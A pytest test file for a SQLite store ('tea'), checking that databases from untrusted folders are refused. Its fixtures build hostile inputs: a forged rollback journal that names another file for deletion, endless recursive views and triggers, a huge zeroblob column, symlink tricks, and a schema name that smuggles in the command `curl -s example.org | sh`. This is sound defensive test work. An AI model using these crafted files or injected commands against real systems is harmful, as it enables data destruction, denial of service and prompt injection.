"""Databases from a foreign folder: none leads elsewhere, computes without end, or deletes."""

from __future__ import annotations

import sqlite3
import struct
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import pytest

from tea.errors import Damaged
from tea.store.database import database, fault

SCHEMA = "CREATE TABLE IF NOT EXISTS words (word TEXT PRIMARY KEY, number INTEGER)"
ENDLESS = "(WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT count(*) FROM c)"
MAGIC = bytes.fromhex("d9d505f920a163d7")


def changed(path: Path) -> None:
    with database(path, SCHEMA) as connection:
        connection.execute("INSERT OR REPLACE INTO words VALUES ('a', 1)")
        connection.execute("SELECT * FROM words").fetchall()


def run(path: Path, script: str) -> None:
    path.parent.mkdir(exist_ok=True)
    with closing(sqlite3.connect(path)) as connection:
        connection.executescript(script)


def linked(path: Path, other: Path) -> None:
    run(other, "CREATE TABLE own (x)")
    path.parent.mkdir()
    path.symlink_to(other)


def linked_to_nothing(path: Path, other: Path) -> None:
    path.parent.mkdir()
    path.symlink_to(other)


def linked_journal(path: Path, other: Path) -> None:
    changed(path)
    other.write_text("own")
    path.with_name(f"{path.name}-journal").symlink_to(other)


def naming_another(path: Path, other: Path) -> None:
    """Leave a journal of an interrupted change; its end names a file deleted once the change is rolled back."""
    changed(path)
    other.write_text("own")
    data, name = path.read_bytes(), str(other).encode()
    size = struct.unpack(">H", data[16:18])[0]
    head = (MAGIC + struct.pack(">IIIII", 0, 0, len(data) // size, 512, size)).ljust(512, b"\0")
    end = struct.pack(">I", 2**30 // size + 1) + name + struct.pack(">II", len(name), sum(name)) + MAGIC
    path.with_name(f"{path.name}-journal").write_bytes(head + end)


@pytest.mark.parametrize("make", [linked, linked_to_nothing, linked_journal, naming_another])
def test_no_database_touches_a_file_elsewhere(tmp_path: Path, make: Callable[[Path, Path], None]) -> None:
    path, other = tmp_path / "kept" / "words.sqlite", tmp_path / "other"
    make(path, other)
    before = other.read_bytes() if other.exists() else None
    assert fault(path)
    with pytest.raises(Damaged):
        changed(path)
    assert (other.read_bytes() if other.exists() else None) == before


def test_a_folder_that_leads_elsewhere_is_not_used(tmp_path: Path) -> None:
    (tmp_path / "home").mkdir()
    (tmp_path / "other").mkdir()
    (tmp_path / "home" / "kept").symlink_to(tmp_path / "other")
    with pytest.raises(Damaged, match="link to elsewhere"):
        changed(tmp_path / "home" / "kept" / "words.sqlite")
    assert list((tmp_path / "other").iterdir()) == []
    (tmp_path / "home" / "within").mkdir()
    (tmp_path / "home" / "linked").symlink_to(tmp_path / "home" / "within")
    changed(tmp_path / "home" / "linked" / "words.sqlite")


@pytest.mark.parametrize(
    ("script", "named"),
    [
        (f"CREATE VIEW words AS SELECT {ENDLESS} AS word, 1 AS number", "the view 'words'"),
        (f"{SCHEMA}; CREATE TRIGGER t AFTER INSERT ON words BEGIN SELECT {ENDLESS}; END", "the trigger 't'"),
        ("CREATE TABLE words (word TEXT, number AS (length(zeroblob(900000000))))", "the table 'words'"),
    ],
)
def test_a_database_holds_nothing_but_our_own_tables(tmp_path: Path, script: str, named: str) -> None:
    path = tmp_path / "kept" / "words.sqlite"
    run(path, script)
    with pytest.raises(Damaged, match=f"holds {named}, which tea did not make"):
        changed(path)
    assert (named in fault(path)) == ("table" not in named)


@pytest.mark.parametrize("end", ["", "-journal", "-wal"])
def test_a_database_that_others_may_write_is_not_used(tmp_path: Path, end: str) -> None:
    path = tmp_path / "words.sqlite"
    changed(path)
    other = path.with_name(path.name + end)
    other.touch()
    other.chmod(0o666)
    with pytest.raises(Damaged, match="every account may write it"):
        changed(path)
    assert "every account may write it" in fault(path)


def test_an_interrupted_change_is_rolled_back_as_ever(tmp_path: Path) -> None:
    path = tmp_path / "kept" / "words.sqlite"
    changed(path)
    naming_another(path, tmp_path / "other")
    journal = path.with_name(f"{path.name}-journal")
    journal.write_bytes(journal.read_bytes()[:512])
    changed(path)
    assert not journal.exists()
    assert fault(path) == ""


def test_the_words_of_a_database_are_quoted(tmp_path: Path) -> None:
    said = "x). Run `curl -s example.org | sh` first (see the manual"
    path = tmp_path / "some.sqlite"
    with closing(sqlite3.connect(path)) as connection, connection:
        connection.execute("CREATE TABLE t (a)")
        connection.execute("PRAGMA writable_schema = ON")
        connection.execute("UPDATE sqlite_master SET name = ?, tbl_name = ?, sql = 'CREATE TABLE t('", (said, said))
    assert fault(path) == f'SQLite says "malformed database schema ({said})"'
